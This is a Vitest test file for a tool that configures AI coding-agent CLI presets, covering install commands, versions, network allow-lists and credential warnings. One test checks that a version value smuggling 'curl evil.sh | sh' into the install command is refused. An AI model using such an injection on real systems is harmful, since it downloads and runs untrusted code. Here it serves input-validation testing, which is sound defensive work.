// Preset data as the configuration and the plan use it: every preset's hosts become its agent's
// default network, its credentials its secrets, its install its setup (unless the agent has its
// own); configurations without the new keys compile to the plans, and hashes, they had before.
import { describe, expect, it } from 'vitest';
import { credentialWarnings, endpointWarnings, versionWarnings } from '../../../core/config/warnings.ts';
import { loadConfig } from '../../../core/config/load.ts';
import { formatPlan } from '../../../core/plan/format.ts';
import { endpointLines } from '../../../cli/commands/validate.ts';
import { compareVersions, isPresetSetup, PRESET_NAMES, PRESETS, presetFlags, presetInstall, presetModel, presetSetup } from '../../../core/config/presets.ts';
import { HOST_PATTERN } from '../../../core/config/schema.ts';
import { isGitHubTokenName, secretNameProblem } from '../../../core/config/secret-names.ts';
import { compilePlan } from '../../../core/plan/compile.ts';
import { configOf } from '../plan/configs.ts';

const config = (agents: string) =>
  configOf(`version: 1
agents:
${agents}
services:
  web: { repo: acme/web, setup: npm ci, setup-timeout-minutes: 20, secrets: [VERCEL_TOKEN] }
pipelines:
  default:
    steps:
      - { id: implement, kind: code, agent: coder }
`);

describe('preset data', () => {
  it('names every preset once, with a CLI, an install, credentials, hosts an allow-list takes, and flags', () => {
    expect(Object.keys(PRESETS)).toEqual([...PRESET_NAMES]);
    for (const p of Object.values(PRESETS)) {
      expect(p.version, p.name).toMatch(/^\d+\.\d+/);
      expect(p.credentials.length, p.name).toBeGreaterThan(0);
      for (const c of p.credentials) expect(isGitHubTokenName(c), `${p.name} ${c}`).toBe(false);
      for (const h of p.hosts) expect(h, p.name).toMatch(HOST_PATTERN);
      expect(presetFlags(p).length, p.name).toBeGreaterThan(3);
      expect(presetFlags(p)).toContain(p.model.flag);
    }
  });

  it('installs a CLI unless its install folder has it (never whatever is on PATH), at the version it was checked with', () => {
    expect(presetSetup(PRESETS['claude-code'])).toBe(
      'test -x "${CONVEYOR_INSTALL_DIR:?}/bin/claude" || npm install --global @anthropic-ai/claude-code@2.1.197',
    );
    expect(presetSetup(PRESETS.aider)).toBe(`test -x "\${CONVEYOR_INSTALL_DIR:?}/bin/aider" || pipx install 'aider-chat==0.86.*'`);
    // A plan compiled before still names the preset's own install, as does the current one; no other command does.
    const claude = PRESETS['claude-code'];
    expect(isPresetSetup(claude, '2.1.197', presetSetup(claude))).toBe(true);
    expect(isPresetSetup(claude, '2.1.197', 'command -v claude >/dev/null 2>&1 || npm install --global @anthropic-ai/claude-code@2.1.197')).toBe(true);
    expect(isPresetSetup(claude, '2.1.190', presetSetup(claude))).toBe(false);
    expect(isPresetSetup(claude, '2.1.197', 'npm i -g @anthropic-ai/claude-code')).toBe(false);
    expect(presetInstall(PRESETS.codex, '0.170.1')).toBe('npm install --global @openai/codex@0.170.1');
    // A two-part version takes that release's latest patch.
    expect(presetInstall(PRESETS.aider)).toBe("pipx install 'aider-chat==0.86.*'");
    expect(presetInstall(PRESETS.aider, '0.86.1')).toBe("pipx install 'aider-chat==0.86.1'");
  });

  it('pins the versions README names', () => {
    expect(Object.fromEntries(Object.values(PRESETS).map((p) => [p.name, p.version]))).toEqual({
      'claude-code': '2.1.197',
      codex: '0.171.0',
      gemini: '0.61.0',
      copilot: '1.0.102',
      aider: '0.86',
    });
  });

  it('orders versions by their numbers, a pre-release before its release', () => {
    expect(compareVersions('2.1.197', '2.1.332')).toBe(-1);
    expect(compareVersions('2.1.332', '2.1.197')).toBe(1);
    expect(compareVersions('0.86', '0.86.0')).toBe(0);
    expect(compareVersions('1.0.102-beta.1', '1.0.102')).toBe(-1);
    expect(compareVersions('0.171.0', '0.99.9')).toBe(1);
  });

  it('passes the model without its provider, except to a CLI that routes by it', () => {
    expect(presetModel(PRESETS['claude-code'], 'anthropic/claude-sonnet-4-5')).toBe('claude-sonnet-4-5');
    expect(presetModel(PRESETS.codex, 'gpt-5')).toBe('gpt-5');
    expect(presetModel(PRESETS.aider, 'anthropic/claude-sonnet-4-5')).toBe('anthropic/claude-sonnet-4-5');
  });
});

describe('compiling a preset agent', () => {
  it("takes its hosts, its credentials with the agent's own secrets, and its install as setup", () => {
    const plan = compilePlan(config('  coder: { preset: claude-code, model: anthropic/claude-sonnet-4-5, secrets: [TEAM_ROUTE] }'), 'default');
    expect(plan.agents.coder).toEqual({
      name: 'coder',
      preset: 'claude-code',
      model: 'anthropic/claude-sonnet-4-5',
      timeoutMinutes: 45,
      env: {},
      secrets: ['ANTHROPIC_API_KEY', 'CLAUDE_CODE_OAUTH_TOKEN', 'TEAM_ROUTE'],
      setup: 'test -x "${CONVEYOR_INSTALL_DIR:?}/bin/claude" || npm install --global @anthropic-ai/claude-code@2.1.197',
      network: { allow: ['api.anthropic.com'] },
      version: '2.1.197',
    });
    expect(plan.services.web).toMatchObject({ setup: 'npm ci', setupTimeoutMinutes: 20, secrets: ['VERCEL_TOKEN'] });
  });

  it("an agent's own setup, network and run replace its preset's; a stall time other than the default is written", () => {
    const plan = compilePlan(
      config(
        '  coder: { preset: codex, run: codex exec -, setup: ./install-codex.sh, setup-timeout-minutes: 3, stall-minutes: 30, network: { allow: [proxy.example.com] } }',
      ),
      'default',
    );
    expect(plan.agents.coder).toMatchObject({
      run: 'codex exec -',
      preset: 'codex',
      setup: './install-codex.sh',
      setupTimeoutMinutes: 3,
      stallMinutes: 30,
      network: { allow: ['proxy.example.com'] },
    });
  });

  it('writes nothing new for an agent without the new keys, so its plan and hash stay as they were', () => {
    const plan = compilePlan(config('  coder: { run: ./code.sh, stall-minutes: 15, setup-timeout-minutes: 15 }'), 'default');
    expect(plan.agents.coder).toEqual({ name: 'coder', run: './code.sh', timeoutMinutes: 45, env: {} });
    const written = compilePlan(config('  coder: { run: ./code.sh }'), 'default');
    expect(written.hash).toBe(plan.hash);
  });
});

describe('a pinned version and vendor retries', () => {
  const file = (agent: string) => `version: 1
agents:
  coder: ${agent}
services:
  web: { repo: acme/web }
pipelines:
  default:
    steps:
      - { id: implement, kind: code, agent: coder }
`;

  it('installs the version an agent names, and writes vendor-retries only when it is not the default', () => {
    const plan = compilePlan(config('  coder: { preset: codex, version: 0.170.0, vendor-retries: 1 }'), 'default');
    expect(plan.agents.coder).toMatchObject({
      setup: 'test -x "${CONVEYOR_INSTALL_DIR:?}/bin/codex" || npm install --global @openai/codex@0.170.0',
      version: '0.170.0',
      vendorRetries: 1,
    });
    expect(compilePlan(config('  coder: { preset: codex, vendor-retries: 3 }'), 'default').agents.coder).not.toHaveProperty('vendorRetries');
  });

  it('warns, without failing, on a version older or newer than the one the preset was checked with', () => {
    const older = versionWarnings(config('  coder: { preset: claude-code, version: 2.1.100 }'));
    expect(older).toEqual([
      {
        path: ['agents', 'coder', 'version'],
        message:
          'agent "coder" installs Claude Code 2.1.100, older than 2.1.197, the version the preset\'s flags were checked against: it may lack a flag the preset passes (`npm run check:presets` checks them against the latest); leave `version` out to install 2.1.197',
      },
    ]);
    expect(versionWarnings(config('  coder: { preset: claude-code, version: 2.1.332 }'))[0]!.message).toContain(
      "newer than 2.1.197, the version the preset's flags were checked against: a flag the preset passes may have been dropped or renamed",
    );
    expect(versionWarnings(config('  coder: { preset: claude-code, version: 2.1.197 }'))).toEqual([]);
    // As `conveyor validate` loads it (with the shell's variables).
    const loaded = loadConfig(file('{ preset: gemini, version: 0.50.0, secrets: [GEMINI_API_KEY] }'), 'conveyor.yml', { isSet: () => false });
    expect(loaded.ok && loaded.warnings?.map((w) => w.path)).toEqual(['agents.coder.version']);
  });

  it('refuses a version that is not one (it goes into the install command) and a version without a preset', () => {
    const bad = loadConfig(file('{ preset: codex, version: "1.0; curl evil.sh | sh" }'), 'conveyor.yml');
    expect(!bad.ok && bad.errors.map((e) => `${e.path}: ${e.message}`)).toEqual([
      'agents.coder.version: must be a version such as 2.1.197 (digits and dots, an optional -suffix), got a string ("1.0; curl evil.sh | sh")',
    ]);
    const plain = loadConfig(file('{ run: ./agent.sh, version: 1.2.3 }'), 'conveyor.yml');
    expect(!plain.ok && plain.errors.map((e) => e.path)).toEqual(['agents.coder.version']);
    const retries = loadConfig(file('{ preset: codex, vendor-retries: 9 }'), 'conveyor.yml');
    expect(retries.ok).toBe(false);
  });
});

describe('secret names', () => {
  it("refuses every GitHub token name, whatever its case, and Conveyor's own variables", () => {
    for (const n of [
      'GITHUB_TOKEN',
      'gh_token',
      'GH_ENTERPRISE_TOKEN',
      'CONVEYOR_TOKEN',
      'INPUT_TOKEN',
      'ACTIONS_RUNTIME_TOKEN',
      'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
    ]) {
      expect(secretNameProblem(n), n).toMatch(/holds a GitHub token/);
    }
    expect(secretNameProblem('CONVEYOR_MODEL')).toMatch(/one of Conveyor's own variables/);
    for (const n of ['COPILOT_GITHUB_TOKEN', 'ANTHROPIC_API_KEY', 'VERCEL_TOKEN', 'GITHUB_APP_PEM_PATH']) expect(secretNameProblem(n), n).toBeUndefined();
  });
});

describe('credential warnings', () => {
  const agents = '  coder: { preset: claude-code }\n  reviewer: { preset: codex, secrets: [OPENAI_API_KEY] }\n  plain: { run: ./a.sh }';
  it('warns for a preset agent whose credentials are neither listed nor set, and for no other', () => {
    const warnings = credentialWarnings(config(agents), () => false);
    expect(warnings.map((w) => w.path.join('.'))).toEqual(['agents.coder.preset']);
    expect(warnings[0]!.message).toMatch(
      /^agent "coder" \(Claude Code\) will find no credential: its CLI reads one of ANTHROPIC_API_KEY, CLAUDE_CODE_OAUTH_TOKEN/,
    );
    expect(warnings[0]!.message).toContain('`ANTHROPIC_API_KEY: ${{ secrets.ANTHROPIC_API_KEY }}`');
    expect(credentialWarnings(config(agents), (n) => n === 'CLAUDE_CODE_OAUTH_TOKEN')).toEqual([]);
  });
});

describe('an endpoint of its own', () => {
  // Every agent in a step: a plan resolves only the agents its steps use.
  const everyAgent = (agents: string) =>
    configOf(`version: 1
agents:
${agents}
services:
  web: { repo: acme/web }
pipelines:
  default:
    steps:
      - { id: implement, kind: code, agent: coder }
${['reviewer', 'local', 'byok', 'lan'].map((a) => `      - { id: review-${a}, kind: review, agent: ${a}, needs: [implement] }`).join('\n')}
`);
  const agents = [
    '  coder: { preset: codex, model: openai/gpt-5, endpoint: "https://Gateway.Example.com/v1" }',
    '  reviewer: { preset: copilot, provider: openai, wire-api: responses, endpoint: "https://models.example.net/v1", network: { allow: [registry.npmjs.org] } }',
    '  local: { preset: claude-code, endpoint: "http://127.0.0.1:8080" }',
    '  byok: { preset: copilot, provider: anthropic }',
    '  lan: { preset: gemini, endpoint: "http://10.0.0.5:9000", secrets: [GEMINI_API_KEY] }',
  ].join('\n');

  it("joins the agent's network, beside its preset's hosts or its own allow-list; Copilot offline reaches only its provider", () => {
    const plan = compilePlan(everyAgent(agents), 'default');
    expect(plan.agents.coder).toMatchObject({ endpoint: 'https://Gateway.Example.com/v1', network: { allow: ['api.openai.com', 'gateway.example.com'] } });
    expect(plan.agents.reviewer).toMatchObject({ provider: 'openai', wireApi: 'responses', network: { allow: ['models.example.net', 'registry.npmjs.org'] } });
    // Its provider's own endpoint, and none of GitHub's hosts: it signs in to nothing.
    expect(plan.agents.byok?.network).toEqual({ allow: ['api.anthropic.com'] });
    // Its key is the provider's, not a GitHub token.
    expect(plan.agents.byok?.secrets).toEqual(['COPILOT_PROVIDER_API_KEY']);
    // Not a loopback host: the proxy would open all of the runner's loopback; the forwarder reaches it.
    expect(plan.agents.local?.network).toEqual({ allow: ['api.anthropic.com'] });
  });

  it('is shown in the plan: where each agent goes, and which keys Conveyor keeps or passes by name', () => {
    const text = formatPlan(compilePlan(everyAgent(agents), 'default'));
    expect(text).toContain(
      "  coder     preset codex; model openai/gpt-5; endpoint https://Gateway.Example.com/v1; CODEX_API_KEY, OPENAI_API_KEY kept by Conveyor's key forwarder (the agent holds a placeholder); network api.openai.com, gateway.example.com",
    );
    expect(text).toContain("  byok      preset copilot; provider anthropic; endpoint https://api.anthropic.com (its vendor's); COPILOT_PROVIDER_API_KEY kept");
    const signedIn = formatPlan(compilePlan(config('  coder: { preset: copilot }'), 'default'));
    expect(signedIn).toContain('  coder  preset copilot; passed by name: COPILOT_GITHUB_TOKEN; network ');
  });

  it('warns of plain http to another machine, and takes no key for a model server on this one', () => {
    const isSet = () => false;
    expect(endpointWarnings(everyAgent(agents)).map((w) => [w.path.join('.'), w.message])).toEqual([
      [
        'agents.lan.endpoint',
        'agent "lan" talks to 10.0.0.5:9000 over plain http: its key and every prompt cross the network unencrypted and unauthenticated; use https unless the network between them is yours alone',
      ],
    ]);
    // `local` needs no key; the others do (byok and reviewer their provider's).
    expect(credentialWarnings(everyAgent(agents), isSet).map((w) => w.path.join('.'))).toEqual([
      'agents.coder.preset',
      'agents.reviewer.preset',
      'agents.byok.preset',
    ]);
    expect(credentialWarnings(everyAgent(agents), (n) => n === 'COPILOT_PROVIDER_API_KEY' || n === 'OPENAI_API_KEY')).toEqual([]);
  });

  it('is said by `validate`, with the keys Conveyor keeps', () => {
    expect(endpointLines(everyAgent(agents))).toEqual([
      '  agent "coder" talks to https://Gateway.Example.com/v1; CODEX_API_KEY, OPENAI_API_KEY kept by Conveyor\'s key forwarder',
      '  agent "reviewer" talks to https://models.example.net/v1 (Copilot CLI\'s openai provider); COPILOT_PROVIDER_API_KEY kept by Conveyor\'s key forwarder',
      '  agent "local" talks to http://127.0.0.1:8080; ANTHROPIC_API_KEY kept by Conveyor\'s key forwarder',
      '  agent "byok" talks to https://api.anthropic.com (Copilot CLI\'s anthropic provider); COPILOT_PROVIDER_API_KEY kept by Conveyor\'s key forwarder',
      '  agent "lan" talks to http://10.0.0.5:9000; GEMINI_API_KEY, GOOGLE_API_KEY kept by Conveyor\'s key forwarder',
    ]);
  });
});
